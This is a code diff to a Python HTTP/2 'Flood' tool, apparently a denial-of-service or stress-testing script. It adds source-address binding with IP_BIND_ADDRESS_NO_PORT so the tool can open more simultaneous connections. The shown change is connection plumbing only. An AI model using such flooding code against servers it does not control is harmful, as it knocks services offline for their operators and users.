@@ -5,6 +5,7 @@ import struct
 import threading
 import time
 
+IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
 END_STREAM = ACK = 1
@@ -95,9 +96,19 @@ class Flood(threading.Thread):
         self.seconds, self.stall, self.sent, self.streams = seconds, stall, 0, []
         self.open()
 
+    def connect(self):
+        stream = socket.socket()
+        stream.settimeout(60)
+        if self.source:
+            # The port is chosen at connect, so that ports of other connections may be used again.
+            stream.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
+            stream.bind(self.source)
+        stream.connect(self.address)
+        return stream
+
     def open(self):
         while len(self.streams) < self.count:
-            stream = socket.create_connection(self.address, timeout=60, source_address=self.source)
+            stream = self.connect()
             stream = self.wrap(stream) if self.wrap else stream
             stream.setblocking(False)
             self.streams.append(stream)
